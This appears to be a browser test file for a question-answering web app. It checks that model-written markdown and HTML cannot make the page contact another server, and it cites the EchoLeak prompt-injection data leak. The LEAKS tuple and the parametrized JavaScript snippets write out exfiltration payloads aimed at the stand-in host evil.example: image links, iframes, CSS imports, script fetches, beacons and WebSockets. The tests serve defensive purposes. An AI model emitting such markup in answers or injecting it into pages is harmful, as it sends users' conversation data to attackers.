"""What a model or a document writes never makes the page speak to another server.

Images, links by reference and raw HTML in an answer have sent conversations away elsewhere, as in
EchoLeak (CVE-2025-32711): the browser fetched an image whose address held them.
"""

import pytest
from model_servers import Says
from test_generative import CARS, number_of

pytestmark = [pytest.mark.browser, pytest.mark.slow]

EVIL = "https://evil.example/collect"
LEAKS = (
    f"![logo]({EVIL}?q=88)",
    f"![logo][1]\n\n[1]: {EVIL}",
    f"[the source]({EVIL})",
    f"<{EVIL}>",
    f"<img src='{EVIL}' onerror='window.hacked=1'>",
    f"<link rel=preconnect href='{EVIL}'><link rel=dns-prefetch href='//evil.example'>",
    f"<iframe src='{EVIL}'></iframe><object data='{EVIL}'></object>",
    f"<style>@import url('{EVIL}');body{{background:url({EVIL})}}</style>",
    f"<svg><image href='{EVIL}'/></svg><video poster='{EVIL}'></video>",
    f"<form action='{EVIL}'><button>x</button></form><base href='{EVIL}'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'><script src='{EVIL}'></script>",
    "<script>window.hacked=2;fetch('https://evil.example')</script>",
)
LIVE = "img, iframe, object, link, form, svg image, video, script, style, a[href*='evil']"


def leaks(body):
    """Every leak in a statement that cites a sentence, and by itself."""
    number = f"[{number_of(body, CARS)}]"
    borne_out = f"{CARS} {number}"
    return Says(
        "\n".join([borne_out, *(f"{CARS[:-1]} {leak}. {number}" for leak in LEAKS), *LEAKS])
    )


@pytest.mark.parametrize("width", [1280, 390])
def test_an_answer_of_markup_is_text_and_fetches_nothing(scripted_site, open_page, width):
    url, server = scripted_site(leaks, leaks, leaks)
    page = open_page(url, viewport={"width": width, "height": 900})
    asked = []
    page.context.on("request", lambda request: asked.append(request.url))
    page.get_by_role("textbox", name="Question", exact=True).fill(
        "How many cars does the ferry carry?"
    )
    page.get_by_role("button", name="Ask", exact=True).click()
    turn = page.locator(".v-turn[aria-busy=false]")
    turn.locator(".v-card").first.wait_for()
    page.wait_for_timeout(500)
    assert server.requests, "the model was not asked"
    assert "240 cars" in turn.inner_text()
    assert turn.locator(LIVE).count() == 0
    assert page.evaluate("window.hacked") is None
    turn.evaluate("turn => turn.querySelectorAll('details').forEach(each => (each.open = true))")
    page.wait_for_timeout(200)
    assert "evil.example" in turn.text_content()  # what was left out is told, as text
    assert turn.locator(LIVE).count() == 0
    assert asked
    assert [address for address in asked if "evil" in address] == []


@pytest.mark.parametrize(
    "code",
    [
        f"new Promise(done => {{ const image = new Image(); image.onload = () => done('sent');"
        f" image.onerror = () => done('refused'); image.src = '{EVIL}'; }})",
        f"fetch('{EVIL}').then(() => 'sent', () => 'refused')",
        f"Promise.resolve(navigator.sendBeacon('{EVIL}', 'x')).then(() => 'refused')",
        "new Promise(done => { try { const socket = new WebSocket('wss://evil.example');"
        " socket.onerror = () => done('refused'); socket.onopen = () => done('sent'); }"
        " catch { done('refused') } })",
    ],
)
def test_even_markup_that_got_into_the_page_would_fetch_nothing(site, chromium, code):
    context = chromium.new_context()
    try:
        page = context.new_page()
        page.goto(site.url)
        refused = page.evaluate(
            "() => { window.seen = []; document.addEventListener('securitypolicyviolation',"
            " (event) => window.seen.push(event.blockedURI)); }"
        )
        assert refused is None
        assert page.evaluate(code) == "refused"
        page.wait_for_function("window.seen.length > 0")
        assert "evil.example" in page.evaluate("window.seen[0]")
    finally:
        context.close()
